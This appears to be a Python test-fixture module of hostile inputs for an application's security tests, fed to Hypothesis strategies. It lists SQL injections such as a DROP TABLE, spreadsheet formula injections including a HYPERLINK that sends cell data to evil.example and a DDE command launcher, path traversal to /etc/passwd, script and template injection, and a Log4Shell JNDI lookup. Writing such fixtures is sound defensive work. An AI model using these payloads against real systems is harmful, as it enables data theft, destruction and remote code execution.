"""Hostile input for the attack tests: injection strings, awkward text, Hypothesis strategies.

Every string here is something a forger, a careless spreadsheet or a phone may really send:
SQL injection, spreadsheet formula injection (CSV/XLSX exports opened in Excel), NUL bytes
(PostgreSQL text cannot hold them), right-to-left overrides, emoji, and bodies past the
1,600 characters of the longest SMS Twilio accepts.
"""

from __future__ import annotations

from hypothesis import strategies as st

SQL_INJECTIONS = (
    "' OR 1=1 --",
    "'; DROP TABLE people; --",
    "\x00",
    "%' --",
    "1; SELECT pg_sleep(5)--",
    '" OR ""="',
)
"""Strings that break a query built by pasting text into SQL."""

FORMULA_INJECTIONS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
)
"""Cell text a spreadsheet would run as a formula unless the export neutralises it."""

AWKWARD_TEXT = (
    "",
    " ",
    "\x00",
    "%00",
    "\u202etxt.exe",  # right-to-left override
    "مرحبا بك",
    "שלום",
    "🙂👍🏽",
    "٤",
    "Ω≈ç√∫",
    "../../../../etc/passwd",
    "..%2F..%2Fetc%2Fpasswd",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "\ufeff",
    "\u200b",
    "x" * 1601,
    "🙂" * 1700,
)
"""Text that trips encoders, templates, path handling and length limits."""

HOSTILE_STRINGS = SQL_INJECTIONS + FORMULA_INJECTIONS + AWKWARD_TEXT


def hostile_text(max_size: int = 40) -> st.SearchStrategy[str]:
    """Short arbitrary unicode (NUL and controls included), very long text, or a known
    hostile string."""
    return st.one_of(
        st.text(max_size=max_size),
        st.text(alphabet=st.characters(codec="utf-8"), min_size=1600, max_size=1700),
        st.sampled_from(HOSTILE_STRINGS),
    )


def as_header_value(text: str) -> str:
    """`text` as an HTTP server hands a header to WSGI: UTF-8 bytes read as Latin-1, with the
    line breaks HTTP cannot carry inside a header removed."""
    cleaned = text.replace("\r", "").replace("\n", "")
    return cleaned.encode("utf-8").decode("latin-1")
